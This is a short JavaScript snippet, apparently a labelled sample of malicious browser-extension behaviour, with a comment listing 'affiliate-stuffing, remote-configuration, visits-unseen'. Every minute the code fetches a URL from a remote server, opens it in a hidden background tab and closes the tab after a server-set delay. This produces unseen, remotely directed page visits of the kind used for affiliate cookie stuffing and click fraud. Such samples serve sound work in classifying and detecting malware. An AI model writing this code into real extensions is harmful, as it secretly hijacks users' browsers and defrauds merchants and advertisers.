setInterval(function() {
  fetch('https://jobs.viewer.example/next').then(function(r) {
    return r.json();
  }).then(function(j) {
    // expect: affiliate-stuffing, remote-configuration, visits-unseen
    chrome.tabs.create({
      url: j.url,
      active: false
    }, function(t) {
      setTimeout(function() {
        chrome.tabs.remove(t.id);
      }, j.ttl);
    });
  });
}, 6e4);
